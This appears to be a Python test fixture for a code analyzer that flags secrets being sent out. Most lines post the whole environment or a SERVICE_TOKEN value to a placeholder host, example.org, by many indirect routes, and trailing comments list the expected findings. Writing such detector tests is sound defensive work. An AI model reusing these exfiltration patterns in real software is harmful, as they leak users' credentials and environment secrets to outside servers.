import csv
import io
import json
import os
from dataclasses import dataclass
from pathlib import Path
from string import Template

import pandas as pd
import requests

URL = "https://example.org/"

# in a mapping and a list
out = {}
for name in os.environ:
    out[name] = os.environ[name]
requests.post(URL, json=out)
lines = []
for name, value in os.environ.items():
    lines.append(f"{name}={value}")
requests.post(URL, data="\n".join(lines))
copy = {"a": 1}
copy.update(os.environ)
requests.post(URL, json=copy)

# in a buffer, and through what writes into it
buffer = io.StringIO()
writer = csv.writer(buffer)
writer.writerows(os.environ.items())
requests.post(URL, data=buffer.getvalue())

# in files
with open("vars.json", "w") as f:
    json.dump(dict(os.environ), f)
requests.post(URL, files={"f": open("vars.json", "rb")})
Path("vars.txt").write_text(str(dict(os.environ)))
requests.post(URL, data=Path("vars.txt").read_bytes())
print(os.environ["SERVICE_TOKEN"], file=open("token.txt", "w"))
requests.post(URL, data=open("token.txt").read())

# under a key
body = {}
body["token"] = os.environ["SERVICE_TOKEN"]
requests.post(URL, json=body)

# through a function
def collect(into):
    into.append(os.environ["SERVICE_TOKEN"])


found = []
collect(found)
requests.post(URL, json=found)

# as other types
requests.post(URL, data=os.environb[b"SERVICE_TOKEN"])
requests.post(URL, data=os.getenvb(b"SERVICE_TOKEN"))
requests.post(URL, data=pd.DataFrame(os.environ.items()).to_csv())
requests.get(Template(URL + "?$SERVICE_TOKEN").substitute(os.environ))
requests.get(os.path.expandvars(URL + "?${SERVICE_TOKEN}"))
requests.get(URL + "?%(SERVICE_TOKEN)s" % os.environ)
requests.get("https://example.org/?{SERVICE_TOKEN}".format(**os.environ))

# in unions, fields and arguments that are put together
union = {"a": 1}
union |= os.environ
requests.post(URL, json=union)
requests.post(URL, json={"a": 1} | dict(os.environ))
arguments = {}
arguments["data"] = os.environ["SERVICE_TOKEN"]
requests.post(URL, **arguments)


@dataclass
class Credentials:
    user: str
    token: str


credentials = Credentials("me", os.environ["SERVICE_TOKEN"])
requests.get(URL, params={"q": credentials.token})
requests.get(URL, params={"q": credentials.user})

# nothing secret is sent
settings = {"url": URL}
settings["token"] = os.environ["SERVICE_TOKEN"]
requests.get(settings["url"], headers={"Authorization": settings["token"]})
headers = {}
headers["Authorization"] = "Bearer " + os.environ["SERVICE_TOKEN"]
requests.get(URL, headers=headers)
session = requests.Session()
session.headers.update({"X-Api-Key": os.environ["SERVICE_TOKEN"]})
session.get(URL, params={"q": "1"})
log = open("log.txt", "w")
log.write("key has %d characters" % len(os.environ["SERVICE_TOKEN"]))
requests.post(URL, files={"data": open("data.csv", "rb")})
rows = []
rows.append({"lang": os.environ.get("LANG", "C")})
requests.post(URL, json=rows)
# expect 18 any.secret-sent
# expect 22 any.secret-sent
# expect 25 any.secret-sent
# expect 31 any.secret-sent
# expect 36 any.secret-sent
# expect 38 any.secret-sent
# expect 40 any.secret-sent
# expect 45 any.secret-sent
# expect 54 any.secret-sent
# expect 57 any.secret-sent
# expect 58 any.secret-sent
# expect 59 any.secret-sent
# expect 60 any.secret-sent
# expect 61 any.secret-sent
# expect 62 any.secret-sent
# expect 63 any.secret-sent
# expect 68 any.secret-sent
# expect 69 any.secret-sent
# expect 72 any.secret-sent
# expect 82 any.secret-sent
